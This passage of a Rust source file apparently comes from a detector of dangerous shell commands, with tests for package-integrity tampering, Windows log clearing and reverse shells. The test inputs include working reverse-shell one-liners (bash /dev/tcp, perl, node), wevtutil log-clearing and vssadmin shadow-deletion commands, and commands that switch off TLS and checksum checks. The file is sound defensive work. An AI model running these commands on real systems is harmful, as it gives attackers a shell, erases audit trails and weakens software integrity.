            matches!(first.text.as_str(), "lab" | "notebook" | "server").then(|| &rest[1..])
        }
        _ => None,
    }
}

/// A Jupyter server's root folder as the one operand [`exfil::file_server`] reads (`jupyter`
/// row of [`exfil::FILE_SERVERS`]): the value of its root-folder options, else nothing (the
/// working folder).
fn jupyter_root(rest: &[Arg]) -> Vec<Arg> {
    const ROOT_OPTIONS: &[&str] = &[
        "--notebook-dir",
        "--ServerApp.root_dir",
        "--NotebookApp.notebook_dir",
        "--root-dir",
    ];
    let mut i = 0;
    while let Some(w) = rest.get(i) {
        if ROOT_OPTIONS.contains(&w.text.as_str()) {
            return rest.get(i + 1).cloned().into_iter().collect();
        }
        if let Some(o) = ROOT_OPTIONS
            .iter()
            .find(|o| w.text.strip_prefix(**o).is_some_and(|r| r.starts_with('=')))
        {
            return vec![crate::opts::sub_arg(w, o.len() + 1)];
        }
        i += 1;
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `go env -w` and the package managers' `config set` write the download-integrity
    /// switches as the variables they stand for; other keys and reads are nothing.
    #[test]
    fn settings_commands_that_switch_integrity_off() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        for cmd in [
            "go env -w GOSUMDB=off",
            "go env -w GONOSUMDB=* GOFLAGS=-insecure",
            "npm config set strict-ssl false",
            "pnpm config set strict-ssl=false",
            "yarn config set enableStrictSsl false",
            "pip config set global.trusted-host pypi.example.net",
        ] {
            assert!(!crate::analyze(cmd, &ctx).env_tamper.is_empty(), "{cmd}");
        }
        for cmd in [
            "go env GOSUMDB",
            "go env -w GOPRIVATE=github.com/myorg/* CGO_ENABLED=0",
            "npm config set strict-ssl true",
            "npm config get strict-ssl",
            "pip config set global.timeout 60",
        ] {
            assert!(crate::analyze(cmd, &ctx).env_tamper.is_empty(), "{cmd}");
        }
    }

    /// h-dataout29: a Windows-only program met by the POSIX walk is read by the Windows table
    /// with the walk's values: a loop over its operands, a conditional, `find -exec`, `bash -c`
    /// and a variable all give the facts the plain command gives; its reading commands stay
    /// quiet.
    #[test]
    fn windows_programs_in_loops_get_their_loop_words() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        let evasion = |cmd: &str| {
            crate::analyze(cmd, &ctx)
                .evasion
                .iter()
                .map(|e| e.evidence.clone())
                .collect::<Vec<_>>()
        };
        let e =
            evasion(r#"for l in Security System "Windows PowerShell"; do wevtutil cl "$l"; done"#);
        for want in [
            "wevtutil cl Security",
            "wevtutil cl System",
            r#"wevtutil cl "Windows PowerShell""#,
        ] {
            assert!(e.iter().any(|x| x == want), "{want}: {e:?}");
        }
        for cmd in [
            "if true; then wevtutil cl Security; fi",
            r"find . -name x -exec wevtutil.exe cl Security \;",
            "bash -c 'for l in Security; do wevtutil cl $l; done'",
            "for x in 1; do vssadmin delete shadows /all /quiet; done",
            "L=System; while false; do wevtutil cl $L; done",
        ] {
            assert!(!evasion(cmd).is_empty(), "{cmd}");
        }
        for cmd in [
            "for l in Application System; do wevtutil qe \"$l\" /c:5; done",
            "for x in 1; do vssadmin list shadows; done",
        ] {
            assert!(evasion(cmd).is_empty(), "{cmd}");
        }
        for t in crate::windows::TOOLS {
            assert!(crate::windows::WINDOWS_PROGRAMS.contains(t), "{t}");
        }
    }

    /// Issue 11, reverse shells by shape: a socket wired to a shell's stdio, whatever the
    /// wrapper, the peer's spelling or the interpreter.
    #[test]
    fn sockets_wired_to_a_shell_are_reverse_shells() {
        let ctx = crate::ShellContext {
            cwd: "/home/dev/project".into(),
            home: "/home/dev".into(),
            project_dir: Some("/home/dev/project".into()),
        };
        for cmd in [
            "exec 5<>/dev/tcp/203.0.113.5/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/203.0.113.5/443; sh <&196 >&196 2>&196",
            "env sh -i >& /dev/udp/203.0.113.5/53 0>&1",
            "nohup bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
            r#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");'"#,
            r#"node -e 'const n=require("net"),c=require("child_process");const s=n.connect(443,h);const p=c.spawn("/bin/sh");s.pipe(p.stdin)'"#,
        ] {
            let f = crate::analyze(cmd, &ctx);
            assert!(f.has_reverse_shell(), "{cmd}: {:?}", f.remote_exec);
        }
        for cmd in [
            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
            "echo ping > /dev/tcp/127.0.0.1/8080",
            "bash -c 'cat < /dev/tcp/time.nist.gov/13'",
        ] {
            let f = crate::analyze(cmd, &ctx);
            assert!(
                f.remote_exec.iter().all(|r| r.kind != "reverse_shell"),
                "{cmd}: {:?}",
                f.remote_exec
            );
        }
    }

    #[test]
    fn globs() {
        assert!(glob_match("r?", "rm"));
        assert!(glob_match("[r]m", "rm"));
        assert!(glob_match("c*l", "curl"));
        assert!(!glob_match("[!r]m", "rm"));
        assert_eq!(match_known_glob("/???/r?"), Some("rm".into()));
        assert_eq!(match_known_glob("/usr/bin/c?rl"), Some("curl".into()));
    }

    #[test]
    fn tabled_programs_are_sorted_and_complete() {
        assert!(
            TABLED.windows(2).all(|w| w[0] < w[1]),
            "TABLED must stay sorted"
        );
        let mut names: Vec<&str> = vec!["ssh-keygen"];
        names.extend(
            keys::EXPORTS
                .iter()
                .flat_map(|e| e.programs.iter().copied()),
        );
        names.extend(cloud::CLIS.iter().flat_map(|c| c.names.iter().copied()));
        for t in disk::TOOLS {
            names.push(match t.name {
                disk::Name::Exact(n) | disk::Name::Family(n) => n,
            });
        }
        for n in names {
            assert!(has_table(n), "{n} is in a table but not in TABLED");
        }
        assert!(has_table("mkfs.xfs") && has_table("fsck.ext4") && has_table("newfs_apfs"));
        assert!(!has_table("cat") && !has_table("git"));
    }

    #[test]
    fn quoting() {
        assert_eq!(sh_quote("a b"), "'a b'");
        assert_eq!(sh_quote("-rf"), "-rf");
        assert_eq!(sh_quote("it's"), "'it'\\''s'");
    }
}
